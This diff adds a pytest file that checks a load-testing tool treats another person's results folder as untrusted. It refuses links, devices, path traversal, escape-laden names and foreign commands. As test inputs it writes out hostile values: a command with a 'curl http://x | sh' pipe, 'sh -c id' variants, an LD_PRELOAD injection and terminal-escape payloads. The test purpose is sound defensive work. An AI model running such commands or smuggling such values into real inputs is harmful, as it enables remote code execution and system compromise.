@@ -1,0 +1,385 @@
+"""A folder of somebody else's: nothing outside of it is read or written, and nothing of it run."""
+
+from __future__ import annotations
+
+import json
+import os
+import sys
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import msgspec
+import pytest
+from builders import loaded, outcome, run
+from client_facts import plan as clients_plan
+from client_facts import row
+from client_facts import run as clients_run
+from command_line import Type
+from hostile_folder import whole
+from paths import ROOT
+
+from loadtest.measure.clients import resume as clients_resume
+from loadtest.measure.servers.new_run import this_machine
+from loadtest.measure.servers.resume import check_resumable
+from loadtest.plan import interpreters
+from loadtest.plan.servers import inventory
+from loadtest.plan.servers.inventory import Inventory
+from loadtest.plan.servers.project import Project
+from loadtest.records.errors import UserError
+from loadtest.records.measured import Engine, Outcome, Run
+from loadtest.records.planned import Choice, Server
+from loadtest.records.run_folder import CLIENTS, OUTCOMES, SERVERS, Writer, create, read
+
+pytestmark = pytest.mark.usefixtures("no_addresses")
+
+SPARSE_BYTES = 2**33
+
+
+@pytest.fixture
+def folder(tmp_path: Path) -> Path:
+    return create(tmp_path / "results", run())
+
+
+def append(folder: Path, line: bytes) -> None:
+    with open(folder / OUTCOMES, "ab") as file:
+        file.write(line + b"\n")
+
+
+def as_fifo(path: Path) -> None:
+    os.mkfifo(path)
+
+
+def as_link(path: Path) -> None:
+    path.symlink_to("/etc/hostname")
+
+
+def as_device(path: Path) -> None:
+    path.symlink_to("/dev/zero")
+
+
+def as_folder(path: Path) -> None:
+    path.mkdir()
+
+
+def as_sparse(path: Path) -> None:
+    with open(path, "wb") as file:
+        file.truncate(SPARSE_BYTES)
+
+
+NOT_FILES = (as_fifo, as_link, as_device, as_folder, as_sparse)
+
+
+@pytest.mark.parametrize("name", [SERVERS.file, OUTCOMES])
+@pytest.mark.parametrize("make", NOT_FILES)
+def test_what_is_no_file_of_its_own_is_not_read(
+    make: Callable[[Path], None], name: str, folder: Path, type_: Type
+) -> None:
+    (folder / name).unlink(missing_ok=True)
+    make(folder / name)
+    for words in (["report", folder], ["report", "--out", folder.parent], ["run", "--resume"]):
+        done = type_(*words, *([folder] if words[-1] == "--resume" else []))
+        assert done.status == 2
+        (line,) = done.lines
+        assert f"{folder / name}: cannot be read: it is " in line
+
+
+@pytest.mark.parametrize("field", ["raw", "histogram"])
+@pytest.mark.parametrize("make", NOT_FILES)
+def test_what_an_outcome_names_is_a_file_of_the_folder(
+    make: Callable[[Path], None], field: str, folder: Path
+) -> None:
+    make(folder / "raw" / "x.json")
+    append(folder, msgspec.json.encode(outcome(**{field: "raw/x.json"})))
+    with pytest.raises(UserError, match=r"raw/x\.json: cannot be read: it is "):
+        read(folder, SERVERS)
+
+
+def test_a_folder_of_raw_files_is_no_link(folder: Path, tmp_path: Path) -> None:
+    (tmp_path / "x.json").write_text('{"values_us":[1],"counts":[1]}')
+    (folder / "raw").rmdir()
+    (folder / "raw").symlink_to(tmp_path)
+    append(folder, msgspec.json.encode(outcome(histogram="raw/x.json")))
+    with pytest.raises(UserError, match="cannot be read: its folder is a link"):
+        read(folder, SERVERS)
+
+
+@pytest.mark.parametrize("field", ["raw", "histogram"])
+@pytest.mark.parametrize(
+    "path",
+    ["/etc/hostname", "../run.json", "raw/../run.json", "raw/x/y", "run.json", "", "raw/"]
+    + ["raw/\0", "raw/\n", "raw/\x1b]0;x", "raw/\u202ex", f"raw/{'x' * 300}"],
+)
+def test_a_path_that_leads_elsewhere_is_left_out(field: str, path: str, folder: Path) -> None:
+    append(folder, json.dumps(msgspec.to_builtins(outcome()) | {field: path}).encode())
+    stored = read(folder, SERVERS)
+    assert stored.outcomes == ()
+    (note,) = stored.notes
+    assert note.startswith("outcomes.jsonl, line 1: damaged, dropped; ")
+
+
+@pytest.mark.parametrize("name", [OUTCOMES, "raw", "logs", "raw/a.txt", "logs/a.log"])
+def test_nothing_is_written_through_a_link(name: str, folder: Path, tmp_path: Path) -> None:
+    theirs = tmp_path / "theirs"
+    if name in ("raw", "logs"):
+        theirs.mkdir()
+        (folder / name).rmdir()
+    else:
+        theirs.write_text("kept, and not torn")
+    (folder / name).symlink_to(theirs)
+    with pytest.raises(UserError, match="a link"):
+        Writer(folder)
+    assert theirs.is_dir() or theirs.read_text() == "kept, and not torn"
+
+
+def test_outcomes_with_a_second_name_are_not_appended_to(folder: Path, tmp_path: Path) -> None:
+    (tmp_path / "theirs").write_text("kept")
+    (folder / OUTCOMES).hardlink_to(tmp_path / "theirs")
+    with pytest.raises(UserError, match="it is a link"):
+        Writer(folder)
+    assert (tmp_path / "theirs").read_text() == "kept"
+
+
+def test_a_history_is_not_written_through_a_link(type_: Type, tmp_path: Path) -> None:
+    for _ in range(2):
+        made = create(tmp_path / "runs", run())
+        append(made, msgspec.json.encode(outcome(loaded=loaded(2_000), load_s=1.0)))
+    (tmp_path / "theirs").mkdir()
+    (tmp_path / "runs" / "history").symlink_to(tmp_path / "theirs")
+    done = type_("report", "--history", tmp_path / "runs")
+    assert done.status == 2
+    assert "it is a link; move what is there, then try again" in done.lines[-1]
+    assert list((tmp_path / "theirs").iterdir()) == []
+
+
+# Names and numbers -------------------------------------------------------------------------------
+
+NAMES = (
+    *(("plan", "servers", 0, "name"), ("plan", "cells", 0, "server")),
+    *(("plan", "cells", 0, "endpoint", "name"), ("plan", "cells", 0, "endpoint", "kind")),
+    *(("plan", "matrix"), ("plan", "reference")),
+)
+
+
+def put(facts: Any, path: tuple[Any, ...], value: Any) -> Any:
+    *way, last = path
+    at = facts
+    for step in way:
+        at = at[step]
+    at[last] = value
+    return facts
+
+
+@pytest.mark.parametrize("path", NAMES)
+@pytest.mark.parametrize(
+    "name", ["\x1b[2J", "\0", "\x9b2J", "a\nb", "\u202e", "\u2028", "\ufffe", "../x", "", "x" * 241]
+)
+def test_a_name_that_no_file_may_have_is_refused(
+    path: tuple[Any, ...], name: str, folder: Path
+) -> None:
+    facts = put(json.loads(json.dumps(whole(SERVERS))), path, name)
+    (folder / SERVERS.file).write_text(json.dumps(facts))
+    with pytest.raises(UserError, match=r"run\.json: damaged: ") as error:
+        read(folder, SERVERS)
+    assert error.value.lines[0].isprintable()
+
+
+@pytest.mark.parametrize("field", ["id", "label", "group"])
+@pytest.mark.parametrize("name", ["\x1b[2J", "\u2028", "\ufffe", ""])
+def test_a_label_that_nobody_can_print_is_refused(field: str, name: str, tmp_path: Path) -> None:
+    facts = put(json.loads(json.dumps(whole(CLIENTS))), ("plan", "rows", 0, field), name)
+    (tmp_path / CLIENTS.file).write_text(json.dumps(facts))
+    with pytest.raises(UserError, match=r"clients\.json: damaged: "):
+        read(tmp_path, CLIENTS)
+
+
+@pytest.mark.parametrize(
+    ("path", "value"),
+    [
+        (("plan", "rounds"), 10**6),
+        (("plan", "rounds"), 0),
+        (("plan", "budget_s"), 1e300),
+        (("plan", "shape", "workers"), 10**6),
+        (("plan", "shape", "backlog"), -1),
+        (("plan", "cells", 0, "load", "connections"), 0),
+        (("plan", "cells", 0, "load", "duration_s"), -1),
+        (("plan", "cells", 0, "endpoint", "contract", "delay_s"), 5e-324),
+        (("plan", "servers", 0, "processes_seen"), "9" * 4_000),
+        (("command",), "loadtest run quick; curl http://x | sh"),
+        (("command",), "sh -c id"),
+        (("command",), "loadtest run 'quick"),
+    ],
+)
+def test_what_cannot_have_been_planned_is_refused(
+    path: tuple[Any, ...], value: Any, folder: Path
+) -> None:
+    facts = put(json.loads(json.dumps(whole(SERVERS))), path, value)
+    (folder / SERVERS.file).write_text(json.dumps(facts))
+    with pytest.raises(UserError, match=r"run\.json: damaged: "):
+        read(folder, SERVERS)
+
+
+def test_what_the_whole_description_says_is_taken(folder: Path, tmp_path: Path) -> None:
+    (folder / SERVERS.file).write_text(json.dumps(whole(SERVERS)))
+    assert read(folder, SERVERS).run.plan.rounds == 2
+    (tmp_path / CLIENTS.file).write_text(json.dumps(whole(CLIENTS)))
+    assert read(tmp_path, CLIENTS).run.plan.rounds == 2
+
+
+@pytest.mark.parametrize(
+    ("changes", "why"),
+    [
+        ({"round": 10**6}, "damaged"),
+        ({"round": -1}, "damaged"),
+        ({"turn": 10**9}, "damaged"),
+        ({"cell": "nobody.json-sync"}, "of a cell that the plan does not have"),
+        ({"load_s": float(2**70)}, "damaged"),
+        ({"started_at": -1.0}, "damaged"),
+        ({"loaded": msgspec.to_builtins(loaded(10, status_errors=11))}, "more errors than answers"),
+        ({"usage": {"server": {"cpu_s": -1.0}}}, "damaged"),
+        ({"usage": {"\x1b": {}}}, "damaged"),
+    ],
+)
+def test_an_outcome_that_cannot_be_is_left_out(
+    changes: dict[str, Any], why: str, folder: Path
+) -> None:
+    append(folder, msgspec.json.encode(outcome()))
+    append(folder, json.dumps(msgspec.to_builtins(outcome()) | changes).encode())
+    stored = read(folder, SERVERS)
+    assert stored.outcomes == (outcome(),)
+    (note,) = stored.notes
+    assert note.startswith(f"outcomes.jsonl, line 2: {why}, dropped; ")
+
+
+@pytest.mark.parametrize("lines", [b"{}\n" * 1_000, b"\n" * 1_000])
+def test_what_is_no_outcomes_file_at_all_is_refused(lines: bytes, folder: Path) -> None:
+    (folder / OUTCOMES).write_bytes(lines)
+    with pytest.raises(UserError, match=r"outcomes\.jsonl, line 101: over 100 damaged lines"):
+        read(folder, SERVERS)
+
+
+def test_a_run_that_could_not_be_read_back_is_not_begun(tmp_path: Path) -> None:
+    plan = msgspec.structs.replace(run().plan, rounds=10**6)
+    with pytest.raises(UserError, match=r"cannot be measured: Expected `int` <= 1000 - at"):
+        create(tmp_path, run(plan))
+    assert list(tmp_path.iterdir()) == []
+
+
+# Going on ----------------------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def offered() -> Inventory:
+    return inventory.take_inventory(Project(ROOT, sys.executable))
+
+
+def begun(offered: Inventory) -> Run:
+    choice = Choice(matrix="quick", servers=("gunicorn-gthread",), endpoints=("json",))
+    return run(inventory.make_plan(offered, choice), machine=this_machine(offered), choice=choice)
+
+
+def with_server(of: Run, at: int, **changes: Any) -> Run:
+    servers: list[Server] = list(of.plan.servers)
+    servers[at] = msgspec.structs.replace(servers[at], **changes)
+    return msgspec.structs.replace(
+        of, plan=msgspec.structs.replace(of.plan, servers=tuple(servers))
+    )
+
+
+def test_a_run_of_the_project_s_own_servers_goes_on(offered: Inventory, tmp_path: Path) -> None:
+    of = begun(offered)
+    assert [server.duplicate_of for server in of.plan.servers] == [None, "gunicorn-gthread"]
+    check_resumable(of, offered, tmp_path)
+
+
+@pytest.mark.parametrize("at", [0, 1])
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {"argv": ("sh", "-c", "id > pwned")},
+        {"env": {"LD_PRELOAD": "/tmp/x.so"}},
+        {"processes": "workers"},
+    ],
+)
+def test_no_command_of_a_folder_is_run(
+    changes: dict[str, Any], at: int, offered: Inventory, tmp_path: Path
+) -> None:
+    of = with_server(begun(offered), at, **changes)
+    name = of.plan.servers[at].name
+    with pytest.raises(UserError, match=f"server {name} is declared differently now"):
+        check_resumable(of, offered, tmp_path)
+
+
+def test_a_server_that_the_project_does_not_have_is_not_run(
+    offered: Inventory, tmp_path: Path
+) -> None:
+    of = begun(offered)
+    stranger = msgspec.structs.replace(of.plan.servers[0], name="stranger")
+    plan = msgspec.structs.replace(of.plan, servers=(*of.plan.servers, stranger))
+    with pytest.raises(UserError, match="server stranger is declared differently now"):
+        check_resumable(msgspec.structs.replace(of, plan=plan), offered, tmp_path)
+
+
+def test_an_endpoint_that_one_cell_has_otherwise_is_not_asked(
+    offered: Inventory, tmp_path: Path
+) -> None:
+    of = begun(offered)
+    cells = list(of.plan.cells)
+    endpoint = msgspec.structs.replace(cells[-1].endpoint, path="@elsewhere.example/")
+    cells[-1] = msgspec.structs.replace(cells[-1], endpoint=endpoint)
+    plan = msgspec.structs.replace(of.plan, cells=tuple(cells))
+    with pytest.raises(UserError, match=f"endpoint {endpoint.id} is declared differently now"):
+        check_resumable(msgspec.structs.replace(of, plan=plan), offered, tmp_path)
+
+
+def test_an_engine_that_a_folder_names_is_not_asked(
+    offered: Inventory, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from loadtest.cli import run as command
+    from loadtest.measure.servers import resume
+
+    monkeypatch.setattr(resume, "check_resumable", lambda *given: None)
+    engine = Engine(
+        address="tcp://elsewhere.example:2375",
+        name="x",
+        remote=True,
+        version="28",
+        system="x",
+        processors=2,
+        memory_bytes=2**30,
+    )
+    folder = create(tmp_path, msgspec.structs.replace(begun(offered), engine=engine))
+    _, of = command._go_on(offered, folder, ())
+    assert of.engine is None
+
+
+def test_no_python_of_a_folder_is_started(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    of = clients_run(clients_plan([row()]))
+    theirs = msgspec.structs.replace(of.interpreters["3.11"], path=str(tmp_path / "python"))
+    of = msgspec.structs.replace(of, interpreters={"3.11": theirs})
+
+    def look(python: str, names: object) -> None:
+        raise AssertionError(f"{python} was started")
+
+    monkeypatch.setattr(interpreters, "look", look)
+    with pytest.raises(UserError, match="python is no Python of here"):
+        clients_resume.check(of, {"aiohttp": None}, of.machine)  # type: ignore[dict-item]
+
+
+def test_this_python_is_looked_at(monkeypatch: pytest.MonkeyPatch) -> None:
+    of = clients_run(clients_plan([row()]))
+    ours = msgspec.structs.replace(of.interpreters["3.11"], path=sys.executable)
+    of = msgspec.structs.replace(of, interpreters={"3.11": ours})
+    monkeypatch.setattr(interpreters, "look", lambda python, names: ours)
+    clients_resume.check(of, {"aiohttp": None}, of.machine)  # type: ignore[dict-item]
+
+
+def test_what_was_failed_is_an_outcome(folder: Path) -> None:
+    """Text of a log may hold anything: it is kept, and made safe where it is shown."""
+    kept = outcome(status="failed", reason="\x1b]0;pwned\x07", detail="\0\n\u202e")
+    append(folder, msgspec.json.encode(kept))
+    (read_back,) = read(folder, SERVERS).outcomes
+    assert isinstance(read_back, Outcome)
+    assert read_back == kept
